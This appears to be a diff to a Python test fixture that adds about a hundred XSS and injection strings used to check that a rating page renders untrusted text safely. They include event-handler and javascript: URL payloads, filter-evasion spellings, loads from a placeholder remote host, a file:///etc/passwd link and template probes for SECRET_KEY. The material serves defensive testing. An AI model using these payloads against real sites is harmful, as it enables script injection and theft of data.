@@ -1,6 +1,8 @@
-"""Texts written for this project that try to run, load, hide or break out, by class.
+"""200 texts written for this project that try to run, load, hide or break out, by class.
 
-In a browser a text that ran calls `window.ran` or makes a request to `REMOTE`.
+In a browser a text that ran sets `window.ran` or makes a request to `REMOTE`. Many of them do on a
+page that trusts them (`tests/browser/test_rating_safety.py` counts how many), so that a page on
+which none does was not merely lucky.
 """
 
 from __future__ import annotations
@@ -113,6 +115,132 @@ TEMPLATES = [
     "\ufeff<script>\u2028</script>",
 ]
 
+# What makes an element run something without anybody's doing.
+ELEMENTS = [
+    f"<script type=module>{RUN}</script>",
+    f'<script src="data:text/javascript,{RUN}"></script>',
+    f"<svg><script>{RUN}</script></svg>",
+    f"<svg><set onbegin={RUN} attributeName=x dur=1s>",
+    f"<style onload={RUN}></style>",
+    f'<link rel=stylesheet href="data:text/css," onload={RUN}>',
+    f"<iframe onload={RUN}></iframe>",
+    f'<iframe src="javascript:parent.{RUN}"></iframe>',
+    f'<object data="data:text/html,<script>parent.{RUN}</script>" onload={RUN}></object>',
+    f'<embed src="javascript:{RUN}">',
+    f"<audio src=x onerror={RUN}></audio>",
+    f"<video src=x onerror={RUN}></video>",
+    f"<video onloadstart={RUN}><source src=x></video>",
+    f"<textarea autofocus onfocus={RUN}></textarea>",
+    f"<select autofocus onfocus={RUN}></select>",
+    f"<button autofocus onfocus={RUN}>x</button>",
+    f"<a href=# tabindex=1 autofocus onfocus={RUN}>x</a>",
+    f"<p tabindex=1 autofocus contenteditable onfocus={RUN}>x</p>",
+    f"<svg><image href=x onerror={RUN}>",
+    f"<picture><source srcset=x><img src=x onerror={RUN}></picture>",
+    f"<input type=image src=x onerror={RUN}>",
+    f"<image src=x onerror={RUN}>",
+    f"<dialog open><img src=x onerror={RUN}></dialog>",
+    f"<div popover ontoggle={RUN} id=p></div><button popovertarget=p>x</button>",
+    f"<math><mtext href=javascript:{RUN}>x</mtext></math>",
+    f"<div style=animation:x onanimationstart={RUN}>x</div>",
+]
+SPELLINGS = [
+    f"<IMG SRC=x ONERROR={RUN}>",
+    f"<img src=x\nonerror\n=\n{RUN}>",
+    f"<img\tsrc=x\tonerror={RUN}>",
+    f"<img\x0csrc=x\x0conerror={RUN}>",
+    f"<img src=`x` onerror={RUN}>",
+    f'<img src="x"onerror="{RUN}">',
+    f"<img src=x onerror=&#119;indow.ran=1 x='{RUN}'>",
+    f"<img src=x onerror=eval('{RUN}')>",
+    f"<img src=x onerror=setTimeout`{RUN}`>",
+    f"<img src=x a='>' onerror={RUN}>",
+    f"<img src=x onerror={RUN} ",
+    f"< img src=x onerror={RUN}>",
+    f"<\u200bimg src=x onerror={RUN}>",
+    f"<scr\u00adipt>{RUN}</scr\u00adipt>",
+    f"<scr\x00ipt>{RUN}</scr\x00ipt>",
+    f"\u202e>{RUN}=rorreno x=crs gmi<",
+    f"<img src=x onerror={RUN}><!--",
+    f"--!><img src=x onerror={RUN}>",
+    f"<?xml version='1.0'?><script>{RUN}</script>",
+    f"<!DOCTYPE html><html><body onload={RUN}>",
+    f"</div></div></section></main><img src=x onerror={RUN}>",
+]
+MORE_ADDRESSES = [
+    f"[a](javascript://%0A{RUN})",
+    f"[a](javascript&colon;{RUN})",
+    f"[a](javascript&#58;{RUN})",
+    f"[a](java\tscript:{RUN})",
+    f"[a](\x01javascript:{RUN})",
+    f"[a](feed:javascript:{RUN})",
+    f"[a](view-source:javascript:{RUN})",
+    "[a](data:text/html;base64,PHNjcmlwdD53aW5kb3cucmFuPTE8L3NjcmlwdD4=)",
+    f"[a](blob:{REMOTE}/x)",
+    "[a](file:///etc/passwd)",
+    "[a](//remote.invalid/x)",
+    "[a](\\\\remote.invalid\\x)",
+    "[a](https:remote.invalid)",
+    "[a](http://127.0.0.1@remote.invalid/)",
+    f"<{REMOTE}/x?<script>{RUN}</script>>",
+    f'{REMOTE}/x#"onmouseover={RUN}',
+    f"[![a](x)](javascript:{RUN})",
+    f'[a][b]\n\n[b]: <javascript:{RUN}> "<img src=x onerror={RUN}>"',
+    f"a[^1]\n\n[^1]: <img src=x onerror={RUN}>",
+    "![a](//remote.invalid/a.png)",
+    "![a](\\\\remote.invalid\\a.png)",
+    "![a](data:text/html;base64,PHNjcmlwdD53aW5kb3cucmFuPTE8L3NjcmlwdD4=)",
+    "![a](DATA:image/SVG+xml;base64,PHN2ZyBvbmxvYWQ9IndpbmRvdy5yYW49MSI+)",
+]
+MORE_LOADS = [
+    "<img src=//remote.invalid/l.png>",
+    f"<img src=x srcset='{REMOTE}/m.png 1x, x 2x'>",
+    f"<video poster={REMOTE}/n.png></video>",
+    f"<video><track default src={REMOTE}/o.vtt></video>",
+    f"<iframe src={REMOTE}/p></iframe>",
+    f"<script src={REMOTE}/q.js></script>",
+    f"<link rel=preload as=image href={REMOTE}/r.png>",
+    f"<link rel=prefetch href={REMOTE}/s>",
+    f"<link rel=icon href={REMOTE}/t.ico>",
+    f"<link rel=modulepreload href={REMOTE}/u.js>",
+    f"<svg><use href={REMOTE}/v.svg#x></use></svg>",
+    f"<svg><image href={REMOTE}/w.png></image></svg>",
+    f"<svg><filter id=f><feImage href={REMOTE}/x.png /></filter><g filter=url(#f)>x</g></svg>",
+    f"<style>body{{background:url({REMOTE}/y.png)}}</style>",
+    f"<style>@font-face{{font-family:z;src:url({REMOTE}/z)}}*{{font-family:z}}</style>",
+    f"<div style=\"background:image-set('{REMOTE}/aa' 1x)\">x</div>",
+    f"<table background={REMOTE}/bb><tr><td>x</table>",
+    f"<a href=# ping={REMOTE}/cc>x</a>",
+    "<meta http-equiv=Content-Security-Policy content=\"default-src * 'unsafe-inline'\">",
+    f'<meta http-equiv="refresh" content="0;{REMOTE}/dd">',
+    f"<form action={REMOTE}/ee><input name=x autofocus></form>",
+    f"<fencedframe src={REMOTE}/ff></fencedframe>",
+]
+MATHEMATICS = [
+    f"$\\url{{javascript:{RUN}}}$",
+    f"$\\href{{{REMOTE}/gg}}{{x}}$",
+    "$\\htmlId{rating-settings}{x}$",
+    "$\\htmlClass{decision}{x}$",
+    f"$\\htmlData{{action=skip, x={RUN}}}{{x}}$",
+    f"$\\text{{<img src=x onerror={RUN}>}}$",
+    f"$\\color{{red;background:url({REMOTE}/hh)}}{{x}}$",
+    "$\\rule{1000000em}{1000000em}$",
+    f"\\[<script>{RUN}</script>\\]",
+]
+SCRIPT_STRINGS = [
+    f"</script><!--<script>{RUN}//",
+    f"';{RUN}//",
+    f'");{RUN}//',
+    f"`${{{RUN}}}`",
+    f"\u2028{RUN}\u2029",
+    f"*/{RUN}/*",
+    f"&lt;img src=x onerror={RUN}&gt;",
+    f"&amp;lt;img src=x onerror={RUN}&amp;gt;",
+    f"&#x3C;img src=x onerror={RUN}&#x3E;",
+    f"%3Cimg%20src=x%20onerror={RUN}%3E",
+    "{{ request.user }} {% csrf_token %} {{ settings.SECRET_KEY }}",
+]
+
 EVERY_TEXT = [
     *SCRIPTS,
     *HANDLERS,
@@ -122,4 +250,10 @@ EVERY_TEXT = [
     *CLOBBERING,
     *MARKDOWN,
     *TEMPLATES,
+    *ELEMENTS,
+    *SPELLINGS,
+    *MORE_ADDRESSES,
+    *MORE_LOADS,
+    *MATHEMATICS,
+    *SCRIPT_STRINGS,
 ]
